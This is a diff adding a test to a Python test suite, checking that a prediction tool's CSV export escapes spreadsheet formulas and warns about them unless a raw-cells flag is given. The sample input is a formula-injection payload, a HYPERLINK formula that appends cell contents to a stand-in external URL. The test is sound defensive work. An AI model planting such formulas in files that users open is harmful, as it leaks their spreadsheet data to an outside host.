@@ -82,6 +82,16 @@ def test_plain_lines_become_a_table(warm: Path, here: Path) -> None:
     assert [row["text"] for row in _read(here / "out.csv")] == ["a book", "another, longer one"]
 
 
+def test_formulas_in_the_input_are_not_run_by_a_spreadsheet(warm: Path, here: Path) -> None:
+    text = '=HYPERLINK("http://a.b/"&A1)'
+    (here / "in.jsonl").write_text(json.dumps({"text": text}) + "\n")
+    ran = succeed(f"predict {warm} in.jsonl -o out.csv {MACHINE}")
+    assert "1 cell that a spreadsheet would run" in ran.err
+    assert _read(here / "out.csv")[0]["text"] == f"'{text}"
+    succeed(f"predict {warm} in.jsonl -o raw.csv --raw-cells {MACHINE}")
+    assert _read(here / "raw.csv")[0]["text"] == text
+
+
 def test_one_text_on_the_command_line(warm: Path) -> None:
     line = succeed(f"predict {warm}", b"A fine book.\n").out
     assert succeed(f"predict {warm} --text 'A fine book.'").out == line
